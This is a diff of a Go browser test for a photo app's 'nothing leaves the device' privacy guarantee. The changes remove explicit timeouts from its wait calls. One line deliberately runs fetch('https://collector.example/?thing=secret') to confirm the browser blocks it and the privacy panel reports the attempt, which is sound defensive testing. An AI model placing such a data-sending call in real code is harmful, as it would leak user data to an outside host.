@@ -5,7 +5,6 @@ package keep_test
 import (
 	"strings"
 	"testing"
-	"time"
 
 	"github.com/deepemd/deepemd/internal/browsertest"
 	"github.com/deepemd/deepemd/web/internal/studiotest"
@@ -22,13 +21,13 @@ func TestNothingLeavesTheDevice(t *testing.T) {
 	s.Drop(studiotest.Card(2), studiotest.PictureFile(t, "c.jpg", studiotest.Blue), studiotest.PictureFile(t, "d.jpg", studiotest.Blue))
 	s.WaitCount(".thumbnail", 4)
 	s.Drop(".view", studiotest.PictureFile(t, "e.jpg", studiotest.Red))
-	s.WaitFor(`document.querySelectorAll(".bar:not(.unknown)").length === 2`, 30*time.Second)
+	s.WaitFor(`document.querySelectorAll(".bar:not(.unknown)").length === 2`)
 	s.IsKept()
 	s.Revisit()
 	s.WaitCount(".thumbnail", 4)
 
 	s.OpenDialog("#open-privacy", "#privacy")
-	s.WaitFor(`document.querySelector("#privacy").innerText.includes("cannot reach any other address")`, 20*time.Second)
+	s.WaitFor(`document.querySelector("#privacy").innerText.includes("cannot reach any other address")`)
 	if got := s.Text("#privacy .left"); !strings.HasPrefix(got, "Nothing") {
 		t.Errorf("the page says %q", got)
 	}
@@ -43,7 +42,7 @@ func TestNothingLeavesTheDevice(t *testing.T) {
 	}
 
 	s.Eval(`fetch("https://collector.example/?thing=secret").catch(() => {})`)
-	s.WaitFor(`document.querySelector("#privacy .left li")?.innerText.includes("https://collector.example/")`, 20*time.Second)
+	s.WaitFor(`document.querySelector("#privacy .left li")?.innerText.includes("https://collector.example/")`)
 	if got := s.Text("#privacy .left"); !strings.Contains(got, "blocked by the browser") || !strings.HasPrefix(got, "Nothing") {
 		t.Errorf("after a try the page says %q", got)
 	}
